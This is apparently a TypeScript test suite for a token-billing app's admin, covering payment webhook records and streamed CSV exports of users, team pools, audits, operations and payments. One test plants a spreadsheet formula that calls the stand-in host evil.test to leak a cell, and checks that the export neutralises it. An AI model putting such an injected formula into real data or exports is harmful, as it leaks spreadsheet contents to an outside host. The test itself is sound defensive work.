		const before = (await admin.admin.payments.list({})).rows.find((r) => r.eventId === failed.event_id)!;
		// Not paid: no amount, not "$0.00".
		expect(before.order).toEqual({ id: c.orderId, productName: expect.any(String), quantity: 1, status: 'failed', statusNow: 'failed', autoTopUp: false, renewal: false, buyer: w.users.memberA.name, amount: null });
		expect((await post(bed.hook.url, events.completed())).body).toMatchObject({ outcome: 'processed' });
		const rows = (await admin.admin.payments.list({})).rows.filter((r) => r.transactionId === c.transactionId);
		expect(rows.map((r) => [r.eventType, r.outcome, r.order?.status, r.order?.statusNow])).toEqual([
			['transaction.completed', 'applied', 'completed', 'completed'],
			['transaction.payment_failed', 'applied', 'failed', 'completed']
		]);
		// Paid since: each row of its order says what it paid.
		expect(rows.map((r) => r.order?.amount?.cents ?? null)).toEqual([expect.any(Number), expect.any(Number)]);
		await expectInvariants(db);
	});
});

async function csvRows(body: ReadableStream<Uint8Array>): Promise<Record<string, string>[]> {
	return parse(await new Response(body).text(), { columns: true });
}

describe(`streamed CSV exports on ${backend}`, () => {
	it('the users export has every user once with their balance, across keyset pages', async () => {
		const odd = await createUser(db.orm, { email: `odd-${tag()}@example.com`, name: 'O’Brien, "Bob" ; Jr.', siteRole: 'subscriber' });
		await grant(db.orm, { accountId: odd.accountId, tokens: 1234, source: 'bonus' });
		const rows = await csvRows((await usersCsv(db.orm, 3)).body);
		const all = await db.orm.select({ id: users.id }).from(users);
		expect(rows.map((r) => r.user_id).sort()).toEqual(all.map((u) => u.id).sort());
		expect(rows.find((r) => r.user_id === odd.id)).toMatchObject({ name: 'O’Brien, "Bob" ; Jr.', balance_tokens: String((await balances(db.orm, odd.accountId)).available), disabled: 'false' });
		// The role's key stays where spreadsheets and imports read it; its name, as the console shows it, beside it.
		expect(rows.find((r) => r.user_id === odd.id)).toMatchObject({ role: 'subscriber', role_name: 'Member' });
		expect(rows.find((r) => r.user_id === w.users.siteAdmin.id)).toMatchObject({ role: 'admin', role_name: (await listSiteRoles(db.orm)).find((r) => r.key === 'admin')!.name });
	});

	it('writes a cell that starts like a formula as text, so a name typed at sign-up runs nothing in the admin\'s spreadsheet', async () => {
		const formula = '=HYPERLINK("http://evil.test/?x="&A1,"Open")';
		const person = await createUser(db.orm, { email: `formula-${tag()}@example.com`, name: formula, siteRole: 'subscriber' });
		const team = await createTeam(db.orm, { name: `+SUM(1,2) ${tag()}`, ownerUserId: person.id });
		const people = await csvRows((await usersCsv(db.orm)).body);
		expect(people.find((r) => r.user_id === person.id)).toMatchObject({ name: `'${formula}`, email: person.email, balance_tokens: '0' });
		const pools = await csvRows((await teamsCsv(db.orm)).body);
		expect(pools.find((r) => r.team_id === team.id)!.name).toBe(`'${team.name}`);
		// Names that only look odd stay as they were typed.
		expect(people.find((r) => r.user_id === w.users.siteAdmin.id)!.name).not.toMatch(/^'/);
	});

	it('the team pools export has every team once with the ledger’s figures, in the users export’s balance columns, and no person in it', async () => {
		await upsertModule(db.orm, { key: 'pool', name: 'Pool module', limitMessage: 'No.' });
		await upsertFeature(db.orm, { key: 'pool_op', name: 'Pool op', module: 'pool', unit: 'operation', tokensPerUnit: 7 });
		const team = await createTeam(db.orm, { name: `Pool, "Export" ${tag()}`, ownerUserId: w.users.memberB.id });
		await db.orm.insert(teamMembers).values({ teamId: team.id, userId: w.users.teamMember.id, role: 'member' });
		await grant(db.orm, { accountId: team.accountId, tokens: 5000, source: 'bonus' });
		await grant(db.orm, { accountId: team.accountId, tokens: 300, source: 'bonus', model: 'gpt-5-nano' });
		for (let i = 0; i < 3; i++) await consume(db.orm, { accountId: team.accountId, feature: 'pool_op', units: 10, actor: { userId: w.users.teamMember.id }, idempotency: { scope: 'pool', key: randomUUID() } });
		const rows = await csvRows((await teamsCsv(db.orm, 2)).body);
		expect(Object.keys(rows[0]!)).toEqual(['account_id', 'team_id', 'name', 'owner_email', 'members', 'created_at', 'balance_tokens', 'general_balance_tokens', 'unlimited_lot', 'used_this_month_tokens', 'last_active_day', 'figures_as_of']);
		const all = await db.orm.select({ id: teams.id }).from(teams);
		expect(rows.map((r) => r.team_id).sort()).toEqual(all.map((t) => t.id).sort());
		const pool = rows.find((r) => r.team_id === team.id)!;
		const ledger = await balances(db.orm, team.accountId);
		// 5,300 granted, 3 × 10 units × 7 tokens = 210 spent from the general lot.
		expect(ledger.available).toBe(5090);
		expect(pool).toMatchObject({ account_id: team.accountId, name: team.name, owner_email: w.users.memberB.email, members: '2', balance_tokens: String(ledger.available), general_balance_tokens: '4790', unlimited_lot: 'false', used_this_month_tokens: '210' });
		const people = await csvRows((await usersCsv(db.orm)).body);
		expect(people.some((r) => r.account_id === team.accountId)).toBe(false);
		// The member's 210 from the pool are in their row, as their console page says them.
		const member = people.find((r) => r.user_id === w.users.teamMember.id)!;
		expect(Number(member.used_from_team_pools_this_month_tokens)).toBeGreaterThanOrEqual(210);
		expect(Number(member.used_from_team_pools_this_month_tokens)).toBe((await accountDetail(db.orm, w.users.teamMember.accountId)).poolUse.month);
		await expectInvariants(db);
	});

	it('the audit export follows the filters; the operations export has a date range’s operations once each', async () => {
		const audit = await csvRows((await auditCsv(db.orm, { action: 'role.deleted' }, 1)).body);
		expect(audit.length).toBeGreaterThan(0);
		expect(audit.every((r) => r.action === 'role.deleted')).toBe(true);

		await upsertModule(db.orm, { key: 'exp', name: 'Export module', limitMessage: 'No.' });
		await upsertFeature(db.orm, { key: 'exp_op', name: 'Export op', module: 'exp', unit: 'operation', tokensPerUnit: 1 });
		await grant(db.orm, { accountId: w.users.memberB.accountId, tokens: 100, source: 'bonus' });
		for (let i = 0; i < 5; i++) await consume(db.orm, { accountId: w.users.memberB.accountId, feature: 'exp_op', units: 1, actor: {}, idempotency: { scope: 'export', key: randomUUID() } });
		const wide = { from: '2000-01-01', to: '2100-01-01' };
		const rows = await csvRows((await operationsCsv(db.orm, wide, 2)).body);
		const [count] = await queryRows<{ n: number }>(db.orm, sql`select count(*)::int as n from operations`);
		expect(rows).toHaveLength(Number(count!.n));
		expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
		expect(rows.filter((r) => r.feature === 'exp_op' && r.account_id === w.users.memberB.accountId)).toHaveLength(5);
		// A fixed-cost use names no model: its model key is empty, where the screens say "No particular model".
		expect(rows.filter((r) => r.feature === 'exp_op').every((r) => r.cost_tokens === '1' && r.account === w.users.memberB.name && r.model === '')).toBe(true);
		expect(await csvRows((await operationsCsv(db.orm, { from: '2000-01-01', to: '2000-01-02' })).body)).toEqual([]);
		await expect(operationsCsv(db.orm, { from: '2026-02-01', to: '2026-01-01' })).rejects.toMatchObject({ code: 'invalid_input' });
		await expect(operationsCsv(db.orm, { from: 'yesterday', to: '2026-01-01' })).rejects.toMatchObject({ code: 'invalid_input' });
		await expectInvariants(db);
	});

	it('the operations export signs each movement as the statement does: a column sum is the balance', async () => {
		await upsertModule(db.orm, { key: 'sign', name: 'Sign module', limitMessage: 'No.' });
		await upsertFeature(db.orm, { key: 'sign_op', name: 'Sign op', module: 'sign', unit: 'operation', tokensPerUnit: 1 });
		const u = await createUser(db.orm, { email: `signs-${tag()}@example.com`, name: 'Signs' });
		const bought = await grant(db.orm, { accountId: u.accountId, tokens: 100, source: 'purchase' });
		await grant(db.orm, { accountId: u.accountId, tokens: 50, source: 'bonus' });
		await consume(db.orm, { accountId: u.accountId, feature: 'sign_op', units: 5, actor: {}, idempotency: { scope: 'sign', key: randomUUID() } });
		const h = await hold(db.orm, { accountId: u.accountId, feature: 'sign_op', maxTokens: 20, ttlSeconds: 60, actor: {}, idempotency: { scope: 'sign', key: randomUUID() } });
		await settle(db.orm, h.holdId, 7, { scope: 'sign', key: randomUUID() });
		await clawback(db.orm, { accountId: u.accountId, lotIds: [bought.lotId], cause: 'chargeback', reason: 'dispute', operationKey: randomUUID(), tokens: 30 });
		await adjustBalance(db.orm, { accountId: u.accountId, mode: 'delta', tokens: -10, reason: 'correction', actorUserId: w.users.siteAdmin.id, key: randomUUID() });
		const rows = (await csvRows((await operationsCsv(db.orm, { from: '2000-01-01', to: '2100-01-01' })).body)).filter((r) => r.account_id === u.accountId);
		expect(rows.map((r) => [r.kind, r.tokens, r.cost_tokens])).toEqual([
			['grant', '100', ''], ['grant', '50', ''], ['consume', '-5', '5'], ['hold', '0', '20'], ['settle', '-7', '7'], ['clawback', '-30', ''], ['adjust', '-10', '']
		]);
		// Row for row the member's statement's signed tokens, and all together the balance now.
		const st = await statement(db.orm, u.accountId);
		expect(st.rows.map((r) => [r.id, String(r.tokens)]).sort()).toEqual(rows.filter((r) => r.kind !== 'hold').map((r) => [r.id, r.tokens]).sort());
		expect(rows.reduce((t, r) => t + Number(r.tokens), 0)).toBe(st.balance);
		await expectInvariants(db);
	});

	it("the operations export's balance_after_tokens is the balance after each row as the statement shows it, not what a use left to spend with its free allowance", async () => {
		await upsertModule(db.orm, { key: 'freeop', name: 'Free op module', limitMessage: 'No.' });
		await upsertFeature(db.orm, { key: 'free_op', name: 'Free op', module: 'freeop', unit: 'operation', tokensPerUnit: 1 });
		const u = await createUser(db.orm, { email: `free-${tag()}@example.com`, name: 'Free' });
		await setAllowanceRule(db.orm, { module: 'freeop', audience: 'member', userId: u.id, limitTokens: 100, period: 'daily' });
		const key = () => ({ scope: 'free', key: randomUUID() });
		await grant(db.orm, { accountId: u.accountId, tokens: 50, source: 'purchase' });
		// The free allowance pays it all: the balance stays 50; the use's remaining counts the 70 free tokens left too.
		expect((await consume(db.orm, { accountId: u.accountId, feature: 'free_op', units: 30, actor: {}, idempotency: key() })).remaining).toBe(120);
		await consume(db.orm, { accountId: u.accountId, feature: 'free_op', units: 90, actor: {}, idempotency: key() }); // 70 free, 20 from the balance
		const h = await hold(db.orm, { accountId: u.accountId, feature: 'free_op', maxTokens: 10, ttlSeconds: 60, actor: {}, idempotency: key() });
		await settle(db.orm, h.holdId, 4, key());
		// Two rows a page: the account's running balance is carried from page to page.
		const rows = (await csvRows((await operationsCsv(db.orm, { from: '2000-01-01', to: '2100-01-01' }, 2)).body)).filter((r) => r.account_id === u.accountId);
		expect(rows.map((r) => [r.kind, r.tokens, r.balance_after_tokens])).toEqual([
			['grant', '50', '50'], ['consume', '0', '50'], ['consume', '-20', '30'], ['hold', '0', '30'], ['settle', '-4', '26']
		]);
		// Row for row the member's statement's balance after each movement (it lists no use a free allowance paid whole).
		const st = await statement(db.orm, u.accountId);
		const exported = new Map(rows.map((r) => [r.id, r.balance_after_tokens]));
		expect(st.rows.map((r) => [r.id, String(r.balanceAfter)])).toEqual(st.rows.map((r) => [r.id, exported.get(r.id)]));
		expect(st.rows).toHaveLength(3);
		expect(st.balance).toBe(26);
		// A range after its first movement (the grant, dated back a while) starts from the balance the account had then.
		await db.orm.execute(sql`update operations set created_at = '2001-06-01T12:00:00Z' where id = ${rows[0]!.id}::uuid`);
		const later = (await csvRows((await operationsCsv(db.orm, { from: '2002-01-01', to: '2100-01-01' })).body)).filter((r) => r.account_id === u.accountId);
		expect(later.map((r) => [r.kind, r.balance_after_tokens])).toEqual([['consume', '50'], ['consume', '30'], ['hold', '30'], ['settle', '26']]);
		await expectInvariants(db);
	});

	it('the endpoint answers a bad range or an unknown export with a JSON error before any CSV', async () => {
		await useDb(db);
		const cookie = `${SESSION_COOKIE}=${(await createSession(db.orm, w.users.siteAdmin.id)).token}`;
		// Bad input to an export is 400, as to the console's forms and REST's schemas, through the one table (refusals.ts).
		expect(await callJson('/admin/exports/operations?from=2026-02-01&to=2026-01-01', { headers: { cookie } })).toMatchObject({ status: 400, json: { error: 'invalid_input', message: 'The range ends before it starts.' } });
		expect(await callJson('/admin/exports/operations', { headers: { cookie } })).toMatchObject({ status: 400, json: { error: 'invalid_input' } });
		expect(await callJson('/admin/exports/operations?from=2026-01-01&to=2026-02-30', { headers: { cookie } })).toMatchObject({
			status: 400,
			json: { error: 'invalid_input', message: 'to must be a date as YYYY-MM-DD, such as 2026-01-31; got "2026-02-30".' }
		});
		expect(await callJson('/admin/exports/audit?from=13/01/2026', { headers: { cookie } })).toMatchObject({
			status: 400,
			json: { error: 'invalid_input', message: 'from must be a date as YYYY-MM-DD, such as 2026-01-31; got "13/01/2026".' }
		});
		expect(await callJson('/admin/exports/payments?from=2026-02-01&to=2026-01-01', { headers: { cookie } })).toMatchObject({ status: 400, json: { error: 'invalid_input', message: 'The range ends before it starts.' } });
		expect(await callJson('/admin/exports/payments', { headers: { cookie } })).toMatchObject({ status: 400, json: { error: 'invalid_input' } });
		expect(await callJson('/admin/exports/passwords', { headers: { cookie } })).toMatchObject({ status: 404, json: { error: 'not_found' } });
		const users = await call('/admin/exports/users', { headers: { cookie } });
		expect(users.headers.get('content-disposition')).toMatch(/^attachment; filename="quota-users-\d{4}-\d{2}-\d{2}\.csv"$/);
		expect((await users.text()).split('\r\n')[0]).toBe('account_id,user_id,name,email,external_id,role,role_name,disabled,joined_at,balance_tokens,general_balance_tokens,unlimited_lot,used_this_month_tokens,last_active_day,figures_as_of,used_from_team_pools_this_month_tokens');
		const pools = await call('/admin/exports/teams', { headers: { cookie } });
		expect(pools.headers.get('content-disposition')).toMatch(/^attachment; filename="quota-team-pools-\d{4}-\d{2}-\d{2}\.csv"$/);
		expect((await pools.text()).split('\r\n')[0]).toBe('account_id,team_id,name,owner_email,members,created_at,balance_tokens,general_balance_tokens,unlimited_lot,used_this_month_tokens,last_active_day,figures_as_of');
		const payments = await call('/admin/exports/payments?from=2026-01-01&to=2026-01-31', { headers: { cookie } });
		expect(payments.headers.get('content-disposition')).toBe('attachment; filename="quota-payments-2026-01-01-to-2026-01-31.csv"');
		expect((await payments.text()).split('\r\n')[0]).toBe('at,kind,adjustment_type,currency,amount,amount_minor_units,order_id,product,quantity,account_id,account,order_status_now,paddle_transaction_id,paddle_adjustment_id');
	});
});
